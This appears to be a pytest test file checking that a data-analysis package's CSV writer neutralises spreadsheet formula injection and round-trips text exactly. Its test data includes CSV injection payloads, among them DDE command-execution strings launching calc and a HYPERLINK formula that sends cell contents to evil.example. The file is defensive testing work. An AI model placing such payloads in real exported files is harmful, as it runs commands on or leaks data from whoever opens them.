"""No text that we write is a formula to a spreadsheet, and each comes back as it was."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from cases.posteriors import make_posterior, with_drift
from hypothesis import example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import silomix
from silomix import cli
from silomix.errors import DataError
from silomix.model.draws import Correspondence, SiloWeights
from silomix.model.reading import read_table
from silomix.model.schema import Schema, Variable
from silomix.model.spreadsheet import for_spreadsheet, from_spreadsheet, write_table
from silomix.report.results_folder import write_posterior

# pandas before 3.1 reads a cell up to its first NUL
NUL = "\x00" if tuple(map(int, pd.__version__.split(".")[:2])) >= (3, 1) else ""
CALC = "=cmd|' /C calc'!A0"
UNSEEN = ["", "\t", "\r", "\n", " ", "\u00a0", "'", '"']
ATTACKS = [f"{before}=1+1" for before in UNSEEN]
ATTACKS += ["+1+1", "-1+1", "@SUM(1)", "\tx", "\rx", '" =1+1"', CALC]
ATTACKS += ["-1,5+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")']
PLAIN = ["", "a", "1-2", "'a", "a=b", "a@b", "a - b", "COPD; severe", "'tis", "1;2", "a b"]
NUMBERS = ["-", "+", "- ", "-1", "+1.5", "-1,5", "-.5", "-1e-5", "-5%", "1", "0.5", "(-10, -5]"]

SHOWN = re.compile(r"[+-]\s*|[+-][0-9.,]+(e[+-]?[0-9]+)?[%)\]]?\s*", re.IGNORECASE)


def evaluated(cell):
    """Tell whether a spreadsheet may evaluate a cell."""
    bare = cell.strip("\"' \t\r\n\u00a0") if cell[:1] != "'" else cell
    return bare[:1] in set("=@") or (bare[:1] in set("+-") and not SHOWN.fullmatch(bare))


TRICKY = st.text(
    st.sampled_from("=+-@'\";,|\t\r\n 15.])e%a\ufeff\u200b\uff1d\uff0d\uff1b\u2028" + NUL)
)
NOT_READ = "" if NUL else "\x00"
TEXTS = TRICKY | st.text(st.characters(exclude_categories=["Cs"], exclude_characters=NOT_READ))
"""UTF-8 has no surrogates."""


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_text(attack):
    written = for_spreadsheet(attack)
    assert written != attack
    assert not evaluated(written)
    assert from_spreadsheet(written) == attack


@pytest.mark.parametrize("text", [*PLAIN, *NUMBERS])
def test_other_texts_and_numbers_stay_as_they_are(text):
    assert for_spreadsheet(text) == text
    assert from_spreadsheet(text) == text


@settings(max_examples=600)
@given(TEXTS)
@example("'\t'=1")
@example("\t-5")
@example("+\t=1")
def test_every_text_comes_back(text):
    written = for_spreadsheet(text)
    assert not evaluated(written)
    assert from_spreadsheet(written) == text
    assert from_spreadsheet(for_spreadsheet(written)) == written


@pytest.mark.parametrize(
    "text",
    ["\t" * 200_000, "'\t" * 100_000 + "=", "+ " * 100_000, ";" * 100_000 + "x=", "'" * 200_000],
    ids=["tabs", "quoted tabs", "signs", "semicolons", "quotes"],
)
def test_a_long_text_takes_time_in_proportion(text):
    # 200,000 characters take a second at most; one that looks back at all before takes hours
    assert from_spreadsheet(for_spreadsheet(text)) == text


MISSING = {"", "NA", "NaN"}
"""What our reader takes for a missing cell, whoever wrote it."""


@settings(max_examples=60, deadline=None)
@given(rows=st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4), heading=TEXTS)
def test_every_table_comes_back(rows, heading, tmp_path_factory):
    path = tmp_path_factory.getbasetemp() / "every-table.csv"
    rows = [[text + "." if text in MISSING else text for text in row] for row in rows]
    first, second = zip(*rows, strict=True)
    table = pd.DataFrame({"first": first, "n": -1.5, f"{heading}.": 1, "second": second})
    write_table(table, path)
    back = read_table(path).to_native()
    assert list(back.columns) == list(table.columns)
    assert back["first"].tolist() == list(first)
    assert back["second"].tolist() == list(second)
    assert set(back["n"]) == {"-1.5"}
    check_cells(path)


def test_categories_missing_cells_and_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "silo": pd.Categorical(["=1", None, "=1", "a"]),
            "id": [None, "+1+1", "-1", "b"],
            "any": [True, -1, "=x", None],
            "share": [-0.25, np.nan, 1e-9, np.inf],
            "count": [1, 2, 3, 4],
            "significant": [True, False, True, False],
        }
    )
    write_table(table, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().splitlines() == [
        "silo,id,any,share,count,significant",
        "'=1,,True,-0.25,1,True",
        ",'+1+1,-1,,2,False",
        "'=1,-1,'=x,1e-09,3,True",
        "a,b,,inf,4,False",
    ]
    back = read_table(tmp_path / "t.csv").to_native()
    assert back["silo"].astype(object).fillna("?").tolist() == ["=1", "?", "=1", "a"]


def test_two_spellings_of_one_text_are_one_level(tmp_path):
    (tmp_path / "t.csv").write_text("x,y\n'+ve,1\n+ve,1\n,2\n-ve,1\n'-ve,2\n")
    column = read_table(tmp_path / "t.csv").to_native()["x"]
    assert column.fillna("-ve").tolist() == ["+ve", "+ve", "-ve", "-ve", "-ve"]
    assert column.isna().tolist() == [False, False, True, False, False]
    assert sorted(column.cat.categories) == ["+ve", "-ve"]
    (tmp_path / "t.csv").write_text("=x,'=x\n1,2\n")
    with pytest.raises(DataError, match=r"column names \['=x'\] appear more than once"):
        read_table(tmp_path / "t.csv")


def check_cells(path):
    """Check a file as spreadsheets of several countries would split it."""
    text = path.read_bytes().decode()
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(map(evaluated, row)), row


LEVELS = ("a;=1+1", "=2", "-3")
EVIL = Schema(
    (
        Variable(CALC, ("+ve", "-ve")),
        Variable("@x;=1+1", LEVELS),
        Variable("\uff1dx", ("x, =1", "-1")),
    )
)
SILOS = ("+north", "=1+1")


@pytest.fixture
def evil(seed):
    """A posterior whose names are formulas, all of them."""
    rng = np.random.default_rng(seed)
    made = with_drift(make_posterior(rng, schema=EVIL), rng)
    match = made.correspondence
    study = made.study.model_copy(update={"silos": SILOS})
    return dataclasses.replace(
        made,
        study=study,
        correspondence=Correspondence(
            SILOS, match.groups, match.sizes, match.method, match.confidence
        ),
        silo_weights=SiloWeights(SILOS, made.silo_weights.weights, made.silo_weights.profiles),
        provenance=dataclasses.replace(made.provenance, silos=SILOS, sent={s: {} for s in SILOS}),
    )


def test_the_files_of_a_fit_have_no_formulas(evil, tmp_path):
    ids = np.array([*ATTACKS[: len(evil.labels) - 1], None], dtype=object)
    named = dataclasses.replace(evil.assignment, ids=ids)
    write_posterior(tmp_path, dataclasses.replace(evil, assignment=named))
    tables = {path.name: path for path in tmp_path.glob("*.csv")}
    assert len(tables) == 7
    for path in tables.values():
        check_cells(path)

    def column(file, name):
        return read_table(tables[file]).to_native()[name].tolist()

    assert column("labels.csv", "id")[:-1] == ids[:-1].tolist()
    assert column("labels.csv", "silo") == [SILOS[place] for place in evil.assignment.silos]
    pairs = zip(
        column("profiles.csv", "variable"), column("profiles.csv", "level_name"), strict=True
    )
    assert list(pairs) == EVIL.levels * evil.n_clusters
    assert set(column("drift.csv", "variable")) == {variable.name for variable in EVIL.variables}
    assert set(SILOS) & set(column("drift.csv", "highest_silo"))
    for file in ("correspondence.csv", "silo_weights.csv"):
        assert set(column(file, "silo")) == set(SILOS)


def test_the_commands_write_no_formulas(tmp_path, monkeypatch, rng):
    monkeypatch.chdir(tmp_path)
    table = pd.DataFrame({v.name: rng.choice(v.levels, 80) for v in EVIL.variables})
    table["silo"] = np.repeat(SILOS, 40)
    table["id"] = [f"{ATTACKS[row % len(ATTACKS)]}{row}" for row in range(80)]
    table["@ward;x"] = rng.choice(["=w", "a;-", "-1"], 80)
    write_table(table, tmp_path / "table.csv")
    own = ["table.csv", "--silo", "silo", "--id", "id"]
    quick = ["--iterations", "60", "--threads", "1", "--out"]
    fit = ["fit", *own, "--outside", "@ward;x", "--components", "3", *quick, "results"]
    assign = ["assign", "results", *own, "--out", "l.csv"]
    sample = ["sample", "table.csv", "--exclude", "id", *quick, "one"]
    for command in (fit, assign, sample):
        result = CliRunner().invoke(cli.app, command)
        assert result.exit_code == 0, result.output
    files = [*tmp_path.rglob("*.csv")]
    assert {"l.csv", "labels.csv", "profiles.csv", "outside.csv"} <= {file.name for file in files}
    for path in files:
        check_cells(path)
    for file in ("l.csv", "results/labels.csv"):
        assert read_table(file).to_native()["id"].tolist() == table["id"].tolist()
    outside = read_table("results/outside.csv").to_native()
    assert set(outside["variable"]) == {"@ward;x"}
    assert set(outside["level_name"]) == {"=w", "a;-", "-1"}


def test_who_writes_tables():
    """Only these write text as CSV, through the guard; messages are numbers."""
    root = Path(silomix.__file__).parent
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if re.search(r"to_csv\(|write_csv\(|csv\.writer|DictWriter", path.read_text("utf-8"))
    }
    assert writers == {"model/spreadsheet.py", "messages/folder.py"}
